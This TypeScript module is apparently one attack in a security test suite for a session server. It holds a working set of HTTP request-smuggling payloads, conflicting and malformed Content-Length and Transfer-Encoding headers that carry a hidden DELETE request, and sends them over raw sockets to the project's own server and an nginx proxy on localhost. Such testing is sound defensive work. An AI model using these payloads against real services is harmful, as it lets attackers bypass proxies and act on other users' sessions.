/** A request whose end two servers may see in two places. The bytes after the first end are a call that no proxy has seen. @module */
import { once } from 'node:events'
import { connect } from 'node:net'
import { hasTool } from '../../deploy/tools.ts'
import { PROXIES } from '../../faults/proxy/proxies.ts'
import type { Attack } from '../attack.ts'
import { withService } from '../own-service.ts'

/** The heads of requests with this many bytes of body, which begin with the end of a chunked body. */
const HEADS: Readonly<Record<string, (bytes: number) => readonly string[]>> = {
  'both lengths': bytes => [`Content-Length: ${bytes}`, 'Transfer-Encoding: chunked'],
  'both lengths, in the other order': bytes => ['Transfer-Encoding: chunked', `Content-Length: ${bytes}`],
  'an unknown encoding': bytes => [`Content-Length: ${bytes}`, 'Transfer-Encoding: xchunked'],
  'two encodings': bytes => [`Content-Length: ${bytes}`, 'Transfer-Encoding: chunked, identity'],
  'a space before the colon': bytes => [`Content-Length: ${bytes}`, 'Transfer-Encoding : chunked'],
  'a folded line': bytes => [`Content-Length: ${bytes}`, 'Transfer-Encoding:\r\n chunked'],
  'a bare line feed': bytes => [`Content-Length: ${bytes}\nTransfer-Encoding: chunked`],
  'two lengths': bytes => [`Content-Length: ${bytes}`, 'Content-Length: 0'],
  'two lengths, in the other order': bytes => ['Content-Length: 0', `Content-Length: ${bytes}`],
  'a list of lengths': bytes => [`Content-Length: ${bytes}, 0`],
  'a length with a sign': bytes => ['Content-Length: +0', `X: ${bytes}`],
}
/** Beginnings of the body. For one reader they end the first request; for another reader they belong to its body. */
const ENDS: Readonly<Record<string, string>> = {
  chunked: '0\r\n\r\n',
  'bare line feeds': '0\n\n',
  nothing: '',
}

export const attack: Attack = {
  name: 'smuggled-call',
  gains: 'a call that a proxy does not see, on the connection of other users',
  cites: 'spec/session-server#2.2',
  on: 'own servers',
  run: own =>
    withService(own, {}, async service => {
      const { port, hostname } = new URL(service.server)
      const nginx = hasTool('nginx') ? await PROXIES.nginx([Number(port), Number(port)]) : null
      const ports = [Number(port), ...(nginx === null ? [] : [nginx.port])]
      try {
        for (const [what, head] of Object.entries(HEADS))
          for (const end of Object.values(ENDS))
            for (const to of ports) {
              const session = await service.create()
              const { pathname } = new URL(session.requestor)
              const hidden = `${end}DELETE ${pathname} HTTP/1.1\r\nHost: ${hostname}\r\n\r\n`
              const lines = ['POST /session HTTP/1.1', `Host: ${hostname}`, 'Content-Type: application/json']
              await send(to, `${[...lines, ...head(hidden.length)].join('\r\n')}\r\n\r\n${hidden}`)
              if ((await service.status(session)) === 'CANCELLED') return `a hidden call was made: ${what}`
            }
        return null
      } finally {
        await nginx?.close()
      }
    }),
}

/** Sends the bytes, and ends the connection when it is answered. */
async function send(port: number, bytes: string): Promise<void> {
  const socket = connect({ port, host: '127.0.0.1' })
  socket.on('error', () => {})
  const closed = once(socket, 'close')
  socket.end(bytes)
  socket.resume()
  await closed
}
